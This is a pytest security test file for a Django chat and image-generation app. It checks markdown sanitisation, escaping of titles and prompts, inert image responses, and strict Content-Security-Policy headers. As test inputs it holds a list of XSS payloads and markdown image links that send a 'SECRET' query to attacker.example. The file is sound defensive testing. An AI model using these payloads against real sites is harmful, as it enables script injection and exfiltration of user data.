"""SECURITY.md T35–T39: what the browser gets. Markdown is sanitised, user text is escaped, image files cannot run,
and every HTML page carries a strict Content-Security-Policy with a nonce plus the anti-framing headers.

The page walk (T39) reads the URL conf, so a page added later is covered without touching this file.
"""

import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from pathlib import Path

from chats.models import Chat, Message
from chats.templatetags.chat_markdown import markdown
from images.models import GeneratedImage, Generation
from images.services import generation_run, generation_start
from profiles.models import ImageProfile
from tests.fakes import png_bytes

from images.providers import ProviderImage, ProviderResult

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
XSS = '"><img src=x onerror=alert(1)>'

# ---------------------------------------------------------------- T35: markdown from a model or a user

MARKDOWN_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    '[x](https://ok.example "title" onclick="alert(1)")',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=p></form>',
    "`<script>` in code is text",
    "```html\n<script>alert(1)</script>\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", MARKDOWN_ATTACKS)
def test_t35_markdown_output_has_no_active_content(text):
    html = str(markdown(text)).lower()
    for tag in ("<script", "<iframe", "<svg", "<img", "<style", "<form", "<input", "<details", "<math"):
        assert tag not in html, (tag, html)
    assert not re.search(r"<[^>]*\son\w+\s*=", html), html
    # Only real tags count: escaped text such as "&lt;a href=..." is harmless.
    for href in re.findall(r'<a\b[^>]*\shref="([^"]*)"', html):
        assert href.startswith(("http://", "https://", "mailto:")), href


def test_t35_links_get_noopener_noreferrer_nofollow():
    html = str(markdown("see [the docs](https://example.com/docs)"))
    assert '<a href="https://example.com/docs" rel="noopener noreferrer nofollow">the docs</a>' in html


@pytest.mark.django_db
def test_t35_an_assistant_message_is_sanitised_on_the_chat_page(alice, alice_client):
    chat = Chat.objects.create(owner=alice)
    Message.objects.create(chat=chat, role="assistant", kind="text", content="\n\n".join(MARKDOWN_ATTACKS))
    html = alice_client.get(reverse("chat-detail", args=[chat.pk])).content.decode()
    bubbles = " ".join(re.findall(r'<div class="bubble bubble-assistant markdown">(.*?)</div>', html, re.S))
    assert "alert(1)" in bubbles  # the text is there, as text
    assert "<script" not in bubbles and "onerror=" not in bubbles.replace("onerror=alert(1)&gt;", "")
    assert not re.search(r"<(img|svg|iframe)\b", bubbles)


# ---------------------------------------------------------------- T36: no images from other hosts


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://attacker.example/p.png?q=SECRET)",
        "![x][ref]\n\n[ref]: https://attacker.example/p.png?q=SECRET",
        '<img src="https://attacker.example/p.png?q=SECRET">',
        "<https://attacker.example/p.png?q=SECRET>",
    ],
)
def test_t36_markdown_images_are_never_loaded_from_other_hosts(text):
    html = str(markdown(text))
    assert "<img" not in html
    assert not re.search(r"<[a-z][^>]*\ssrc\s*=", html)


@pytest.mark.django_db
def test_t36_the_page_csp_allows_images_only_from_our_origin(alice_client):
    directives = csp_directives(alice_client.get(reverse("chat-list")))
    assert directives["img-src"] == ["'self'", "data:", "blob:"]
    assert directives["default-src"] == ["'self'"] and directives["connect-src"] == ["'self'"]


# ---------------------------------------------------------------- T37: user and provider text is escaped


@pytest.fixture
def hostile_gallery(alice, fake_provider):
    profile = ImageProfile.objects.create(owner=alice, name=f"profile {XSS}", provider="fake", is_default=True)
    chat = Chat.objects.create(owner=alice, title=f"chat {XSS}", image_profile=profile)
    generation = generation_start(owner=alice, prompt=f"a fox {XSS}", negative_prompt=XSS, chat=chat)
    fake_provider.script = [ProviderResult(images=[ProviderImage(data=png_bytes(), mime_type="image/png",
                                                                 revised_prompt=f"revised {XSS}")])]
    generation_run(generation_id=generation.pk)
    generation.refresh_from_db()
    assert generation.status == "succeeded"
    Message.objects.create(chat=chat, role="user", content=f"/image a fox {XSS}")
    return {"chat": chat, "generation": generation, "image": generation.images.get(), "profile": profile}


@pytest.mark.django_db
def test_t37_prompts_titles_profile_names_and_revised_prompts_are_escaped(alice_client, hostile_gallery):
    pages = [
        reverse("chat-list"),
        reverse("chat-detail", args=[hostile_gallery["chat"].pk]),
        reverse("generation-card", args=[hostile_gallery["generation"].pk]),
        reverse("gallery"),
        reverse("gallery-detail", args=[hostile_gallery["image"].pk]),
    ]
    for url in pages:
        response = alice_client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert "<img src=x" not in html, url
        assert "onerror=alert(1)>" not in html, url
    detail = alice_client.get(pages[-1]).content.decode()
    assert "revised &quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in detail
    # Inside alt="" the quote is escaped, so the attribute cannot be closed early.
    alts = re.findall(r'alt="([^"]*)"', detail)
    assert any("a fox &quot;&gt;&lt;img" in alt for alt in alts), alts


# ---------------------------------------------------------------- T38: image files cannot run in the browser


@pytest.mark.django_db
@pytest.mark.parametrize("route, mime", [("image-file", "image/png"), ("image-thumbnail", "image/webp")])
def test_t38_image_responses_are_inert(route, mime, alice, alice_client, fake_provider):
    ImageProfile.objects.create(owner=alice, name="Fake", provider="fake", is_default=True)
    generation = generation_start(owner=alice, prompt="a fox")
    generation_run(generation_id=generation.pk)
    image = GeneratedImage.objects.get(generation=generation)
    response = alice_client.get(reverse(route, args=[image.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == mime
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"  # not replaced by the page policy
    assert response["Cross-Origin-Resource-Policy"] == "same-origin"
    assert response["Cache-Control"].startswith("private")
    assert re.fullmatch(r'inline; filename="img_[0-9a-f]{16}(_thumb)?\.(png|webp|jpg)"', response["Content-Disposition"])
    download = alice_client.get(reverse(route, args=[image.pk]), {"download": "1"})
    assert download["Content-Disposition"].startswith("attachment; filename=")


# ---------------------------------------------------------------- T39: headers on every HTML page


def csp_directives(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}


def pages_without_arguments(patterns=None, namespace=""):
    """Every named route that needs no URL argument, outside the admin and DRF's login views."""
    for entry in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(entry, URLResolver):
            if entry.namespace in ("admin", "rest_framework"):
                continue
            ns = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from pages_without_arguments(entry.url_patterns, ns)
        elif isinstance(entry, URLPattern) and entry.name and not entry.pattern.regex.groups:
            yield f"{namespace}{entry.name}"


def assert_page_headers(response, url):
    directives = csp_directives(response)
    script_src = directives["script-src"]
    assert script_src[0] == "'self'" and len(script_src) == 2 and re.fullmatch(r"'nonce-[A-Za-z0-9+/=]{16,}'", script_src[1]), (url, script_src)
    assert "'unsafe-inline'" not in response["Content-Security-Policy"], url
    assert "'unsafe-eval'" not in response["Content-Security-Policy"], url
    assert directives["object-src"] == ["'none'"], url
    assert directives["base-uri"] == ["'none'"], url
    assert directives["frame-ancestors"] == ["'none'"], url
    assert directives["style-src"] == ["'self'"], url
    assert response["X-Frame-Options"] == "DENY", url
    assert response["Referrer-Policy"] == "same-origin", url
    assert response["Cross-Origin-Opener-Policy"] == "same-origin", url
    assert response["Cross-Origin-Resource-Policy"] == "same-origin", url
    assert response["X-Content-Type-Options"] == "nosniff", url
    # The nonce in the header is the one the page's scripts carry, and every <script> has it.
    nonce = script_src[1][len("'nonce-"):-1]
    scripts = re.findall(r"<script\b[^>]*>", response.content.decode())
    for tag in scripts:
        assert f'nonce="{nonce}"' in tag or re.search(r'\ssrc="/', tag), (url, tag)


@pytest.mark.django_db
def test_t39_every_html_page_sends_the_strict_policy_and_framing_headers(alice_client, hostile_gallery):
    checked = []
    for name in sorted(set(pages_without_arguments())):
        url = reverse(name)
        response = alice_client.get(url)
        if response.status_code != 200 or not response["Content-Type"].startswith("text/html"):
            continue
        assert_page_headers(response, url)
        checked.append(url)
    for name, args in [("chat-detail", [hostile_gallery["chat"].pk]), ("gallery-detail", [hostile_gallery["image"].pk])]:
        url = reverse(name, args=args)
        assert_page_headers(alice_client.get(url), url)
        checked.append(url)
    assert {"/chats/", "/gallery/"} <= set(checked), checked


@pytest.mark.django_db
def test_t39_the_login_page_has_the_policy_and_each_request_a_new_nonce(client):
    first, second = client.get(reverse("login")), client.get(reverse("login"))
    assert_page_headers(first, "login")
    assert csp_directives(first)["script-src"] != csp_directives(second)["script-src"]


@pytest.mark.django_db
def test_t39_api_responses_carry_the_policy_too(alice_api):
    response = alice_api.get(reverse("api:chat-list"))
    assert response.status_code == 200
    assert csp_directives(response)["frame-ancestors"] == ["'none'"]
    assert response["X-Frame-Options"] == "DENY"


INLINE = [
    (re.compile(r"<script\b(?![^>]*\bsrc=)[^>]*>", re.I), "inline <script> (move it to static/app/*.js)"),
    (re.compile(r"<style\b", re.I), "<style> block (move it to static/app/app.css)"),
    (re.compile(r"\sstyle\s*=", re.I), 'style="" attribute (use a class in static/app/app.css)'),
    (re.compile(r"\son[a-z]+\s*=", re.I), "inline event handler (use addEventListener in static/app/*.js)"),
    (re.compile(r"javascript:", re.I), "javascript: URL"),
    (re.compile(r"\bhx-on\b|hx-on:|hx-vars|js:", re.I), "htmx attribute that needs eval"),
]


def test_t39_templates_have_nothing_the_policy_would_block():
    problems = []
    for path in sorted(TEMPLATES.rglob("*.html")):
        text = path.read_text()
        for pattern, why in INLINE:
            for match in pattern.finditer(text):
                line = text.count("\n", 0, match.start()) + 1
                problems.append(f"{path.relative_to(TEMPLATES)}:{line}: {why}")
    assert not problems, "the Content-Security-Policy would block these:\n" + "\n".join(problems)
